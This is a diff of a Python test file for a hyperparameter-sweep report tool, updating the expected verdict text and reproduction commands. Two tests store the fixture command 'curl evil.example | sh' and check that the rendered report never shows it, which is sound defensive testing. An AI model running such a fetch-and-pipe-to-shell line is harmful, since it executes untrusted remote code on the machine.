@@ -22,8 +22,8 @@ def test_a_study_has_its_figures_and_its_trials_lead_to_their_folders(tmp_path):
 def test_arms_that_a_search_chose_are_called_optimistic_and_how_to_judge_them_is_told(tmp_path):
     write_search(tmp_path / "search", command="curl evil.example | sh")
     page, verdict = report(tmp_path, out=tmp_path / "report")
-    assert verdict.startswith("Only a search so far (5 trials): trials explore, and are not judged.")
-    command = "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=4 seed=2,3,4 -m"
+    assert verdict.startswith("Best of 6 trials: l1 0.001, val loss 0.2000. A search explores; it is not judged.")
+    command = "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=4 seed=2,3,4 name=search_judged -m"
     assert verdict.endswith(f"Judge what was found on seeds that chose nothing: {command}")
     assert page.text.count(command) == 2  # in the verdict, and beside the study
     assert "The best of many trials is partly luck, so its value here is optimistic." in page.text
@@ -38,7 +38,7 @@ def test_the_best_trials_command_is_told_with_seeds_that_chose_nothing_and_arms_
         write_run(tmp_path / "it" / str(n), seed=6 + n, **t["params"])
     write_study(tmp_path / "it", trials, command="curl evil.example | sh")
     page, _ = report(tmp_path, out=tmp_path / "report")
-    assert "reg_sweep.train norm=gbn l1=0,1.67e-06 l2=0 epochs=3 seed=8,9,10 -m " in page.text
+    assert "reg_sweep.train norm=gbn l1=0,1.67e-06 l2=0 epochs=3 seed=8,9,10 name=it_judged -m " in page.text
     assert "curl" not in page.text
 
 
